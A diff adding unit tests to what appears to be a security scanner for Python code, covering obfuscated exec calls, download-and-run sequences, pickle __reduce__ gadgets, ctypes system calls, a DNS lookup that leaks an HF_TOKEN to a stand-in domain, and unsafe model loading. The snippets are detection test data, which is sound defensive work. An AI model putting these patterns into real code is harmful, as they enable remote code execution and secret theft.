@@ -260,6 +260,49 @@ TEST(Python, OpensAPickleThatStandsInTheSource) {
   EXPECT_EQ(opened("import json\nx = json.loads('[1]')\n"), "");
 }
 
+TEST(Python, ObscuredCode) {
+  for (const std::string_view source : {
+           "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))\n",
+           "exec(''.join(map(chr, [112, 114, 105, 110, 116])))\n",
+           "exec(')1(tnirp'[::-1])\n",
+           "d = b'abc'\nexec(bytes(b ^ 66 for b in d))\n",
+           "import base64\ndef f(s):\n  return base64.b64decode(s)\nexec(f('cHJpbnQoMSk='))\n",
+           "e = None or exec\ne(__import__('zlib').decompress(b'x'))\n",
+       })
+    EXPECT_TRUE(Holds(Scan(source), "RF-PYS-002", Severity::kCritical)) << source << All(Scan(source));
+  for (const std::string_view source : {
+           "import requests, subprocess\nopen('/tmp/x', 'wb').write(requests.get('http://example.invalid').content)\n"
+           "subprocess.Popen(['/tmp/x'])\n",
+           "import urllib.request as u, os\nu.urlretrieve('http://example.invalid', '/tmp/x')\nos.system('/tmp/x')\n",
+       })
+    EXPECT_TRUE(Holds(Scan(source), "RF-PYS-003", Severity::kCritical)) << source << All(Scan(source));
+  EXPECT_TRUE(Holds(Scan("import timeit\ntimeit.timeit(\"__import__('os').system('echo')\")\n"), "RF-PYS-004",
+                    Severity::kCritical));
+  EXPECT_TRUE(Holds(Scan("class A:\n  def __reduce__(self):\n    return (exec, ('print(1)',))\n"), "RF-PYS-017",
+                    Severity::kHigh));
+  EXPECT_EQ(All(Scan("class A:\n  def __reduce__(self):\n    return (A, (self.x,))\n")), "");
+  EXPECT_TRUE(Holds(Scan("import ctypes\nctypes.CDLL(None).system(b'echo')\n"), "RF-PYS-010", Severity::kCritical));
+  EXPECT_TRUE(Holds(Scan("import socket, os\nsocket.gethostbyname(os.environ['HF_TOKEN'] + '.example.invalid')\n"),
+                    "RF-PYS-007", Severity::kHigh));
+  EXPECT_EQ(Scan("def run(system, eval):\n  return eval(system)\n").verdict(), Verdict::kClean);
+}
+
+TEST(Python, LoadingIsWeighed) {
+  for (const std::string_view source : {
+           "import torch\ntorch.load('x.pt', weights_only=False)\n",
+           "import numpy as np\nnp.load('x.npy', allow_pickle=True)\n",
+           "import yaml\nyaml.load(open('x'), Loader=yaml.UnsafeLoader)\n",
+           "import pickle\npickle.load(open('x', 'rb'))\n",
+       })
+    EXPECT_TRUE(Holds(Scan(source), "RF-PYS-011", Severity::kLow)) << source;
+  EXPECT_TRUE(Holds(Scan("import torch\nfrom huggingface_hub import hf_hub_download\n"
+                         "torch.load(hf_hub_download('a/b', 'c'), weights_only=False)\n"),
+                    "RF-PYS-011", Severity::kMedium));
+  EXPECT_TRUE(
+      Holds(Scan("import pickle, requests\npickle.loads(requests.get(u).content)\n"), "RF-PYS-011", Severity::kHigh));
+  EXPECT_EQ(All(Scan("import yaml\nyaml.load(open('x'), Loader=yaml.SafeLoader)\nyaml.safe_load(f)\n")), "");
+}
+
 TEST(Python, SurvivesHostileInput) {
   const std::string whole(kHonest[0]);
   for (std::size_t size = 0; size < whole.size(); size += 3) Scan(std::string_view(whole).substr(0, size));
